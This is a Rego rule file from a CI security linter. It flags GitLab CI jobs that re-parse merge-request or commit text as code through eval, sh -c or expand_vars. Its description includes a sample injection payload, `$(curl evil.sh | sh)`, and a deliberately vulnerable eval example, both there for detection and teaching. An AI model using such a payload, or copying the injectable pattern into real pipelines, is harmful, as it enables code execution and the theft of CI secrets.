# METADATA
# title: Merge-request or commit text re-parsed as code in a GitLab CI script
# description: |
#   A script re-parses, as shell or interpreter code, a predefined variable whose value the
#   author of a commit, branch or merge request chooses: CI_MERGE_REQUEST_TITLE,
#   CI_MERGE_REQUEST_DESCRIPTION, CI_MERGE_REQUEST_SOURCE_BRANCH_NAME, CI_COMMIT_MESSAGE,
#   CI_COMMIT_TITLE, CI_COMMIT_DESCRIPTION, CI_COMMIT_TAG_MESSAGE, CI_COMMIT_AUTHOR,
#   CI_COMMIT_BRANCH, CI_COMMIT_REF_NAME, CI_EXTERNAL_PULL_REQUEST_SOURCE_BRANCH_NAME (directly or
#   through a job variable set from one). Re-parsing contexts: `eval` with an argument that is
#   not single-quoted, the command string of `sh|bash|zsh|dash|ksh -c` and of
#   `python|node|perl|ruby|php -c|-e` when it is double-quoted or unquoted, and `source <(...)`.
#   A title like `$(curl evil.sh | sh)` then runs in the job, with its variables and tokens.
#   Also reported: `$[[ inputs.x | expand_vars ]]` in the script of a template included locally
#   with `inputs: x: $CI_COMMIT_MESSAGE` (or another of these variables): GitLab expands the
#   variable when it creates the pipeline and pastes its value into the script text, like
#   GitHub's ${{ }}. Inputs of templates that are not fetched (project, remote, component) and
#   spec: defaults are not seen.
#   Not reported: ordinary uses such as `echo "$CI_COMMIT_MESSAGE"` or `git tag "$CI_COMMIT_TAG"`:
#   the runner passes CI/CD variables as environment variables and the shell expands them once,
#   without re-parsing the value (unlike GitHub's ${{ }}, which is pasted into the script text
#   before the shell runs); a single-quoted `sh -c '...'` string (the inner shell expands the
#   variable once) and values passed to `sh -c` as positional arguments.
# related_resources:
#   - https://docs.gitlab.com/ci/variables/predefined_variables/
#   - https://docs.gitlab.com/ci/variables/#use-cicd-variables-in-job-scripts
#   - https://docs.gitlab.com/ci/inputs/#expand_vars
#   - https://pubs.opengroup.org/onlinepubs/9799919799/utilities/V3_chap02.html#tag_19_06
# custom:
#   id: gitlab-script-injection
#   category: injection
#   severity: high
#   remediation: |
#     Do not eval or `sh -c "..."` text that contains these variables. Use the variable directly as a
#     quoted argument ("$CI_COMMIT_MESSAGE"), or pass it to `sh -c '...'` as a positional argument
#     (sh -c 'printf "%s\n" "$1"' sh "$CI_MERGE_REQUEST_TITLE").
#   examples:
#     file: .gitlab-ci.yml
#     bad: |
#       announce:
#         script:
#           - eval "./notify.sh --title $CI_MERGE_REQUEST_TITLE"
#     good: |
#       announce:
#         script:
#           - ./notify.sh --title "$CI_MERGE_REQUEST_TITLE"
package nhilint.rules.gitlab.script_injection

import data.nhilint.lib.gitlab
import data.nhilint.lib.result

findings contains gitlab.job_finding(job, inj.key, result.at(job, inj.key, msg)) if {
	some job in gitlab.jobs
	some inj in gitlab.script_injections(job)
	msg := sprintf("%s re-parses %s as code in %s (%s): its value is written by whoever pushes the commit or opens the merge request, and text like $(curl …) in it runs in the job with its variables and tokens; pass it as a quoted argument instead, never through %s", [
		gitlab.describe(job), inj.origin, inj.line, inj.context, inj.context,
	])
}

# `$[[ inputs.x | expand_vars ]]` in a template's script: GitLab expands the variables of
# the input's value when it creates the pipeline and pastes the result into the script
# text, so an include that sets the input from an untrusted variable injects its text.
findings contains gitlab.job_finding(job, key, result.with_related(result.at(job, key, msg), [result.related(
	inc, concat(".", ["inputs", name_in]),
	sprintf("%s sets input %s to %s", [gitlab.describe(inc), name_in, inc.inputs[name_in]]),
)])) if {
	some job in gitlab.jobs
	some line in gitlab.script_lines(job)
	contains(line.text, "expand_vars")
	some m in regex.find_all_string_submatch_n(_expanded_input, line.text, -1)
	name_in := m[1]
	file := object.get(job.inherited, [line.key, "file"], job.file)
	some inc in gitlab.includes
	inc.pipeline == job.pipeline
	file in object.get(inc, "resolved", [])
	some name in gitlab.untrusted_variables
	regex.match(sprintf(`\$\{?%s(?:\}|\b)`, [name]), object.get(inc, ["inputs", name_in], ""))
	key := gitlab.line_key(line, sprintf(`\$\[\[\s*inputs\.%s\b`, [name_in]))
	msg := sprintf("%s pastes input %s, set from $%s, into the script text of %s with expand_vars: GitLab substitutes the value before the shell runs, so text like $(curl …) in it runs in the job with its variables and tokens; drop expand_vars and pass the input as a quoted variable instead", [
		gitlab.describe(job), name_in, name, line.key,
	])
}

_expanded_input := `\$\[\[\s*inputs\.([A-Za-z0-9_-]+)\s*\|[^\]]*\bexpand_vars\b[^\]]*\]\]`
